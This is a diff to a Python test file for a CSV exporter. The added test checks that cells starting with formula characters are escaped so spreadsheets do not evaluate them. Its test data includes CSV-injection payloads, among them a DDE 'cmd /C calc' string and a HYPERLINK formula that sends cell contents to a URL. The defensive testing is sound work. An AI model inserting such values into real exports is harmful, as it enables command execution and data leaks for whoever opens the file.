@@ -41,8 +41,38 @@ def test_column_names_are_unique_and_rows_keep_all_texts(grid, marked):
 def test_csv_reads_back(grid):
     sheet = ExportSheet("a", tuple(map(str, range(len(grid[0])))), grid)
     file = BytesIO()
-    comma.write(sheet, file)
+    comma.write(sheet, file, exact=True)
     assert list(csv.reader(StringIO(file.getvalue().decode("utf-8"), newline=""))) == [list(sheet.columns), *grid]
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("http://a.b?"&A1)', '"\'=HYPERLINK(""http://a.b?""&A1)"'),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd", "'-2+3+cmd"),
+        ("-5-3", "'-5-3"),
+        ("- item", "'- item"),
+        ("\t=1+1", '"\'\t=1+1"'),
+        ("\r=1+1", '"\'\r=1+1"'),
+        ("\n=1+1", '"\'\n=1+1"'),
+        ("＝1+1", "'＝1+1"),
+        ("-A1", "'-A1"),
+        ("a;=1+1", '"a;=1+1"'),
+        *((number, number) for number in ("-5", "+3.2", "-.5", "- 12 000.50", "-5 %", "-$1200", "-1e-9", "−5", "-", "--", "5=5", "a@b.c", "'=1")),
+        ("-1,234.5", '"-1,234.5"'),
+        ("", '""'),
+    ],
+)
+def test_cells_do_not_become_formulas_in_csv(cell, written):
+    file = BytesIO()
+    comma.write(ExportSheet("a", (cell,), [[cell]]), file)
+    assert file.getvalue().decode() == f"{written}\r\n" * 2
+    file = BytesIO()
+    comma.write(ExportSheet("a", (cell,), [[cell]]), file, exact=True)
+    assert list(csv.reader(StringIO(file.getvalue().decode(), newline=""))) == [[cell]] * 2
 
 
 @pytest.mark.parametrize(
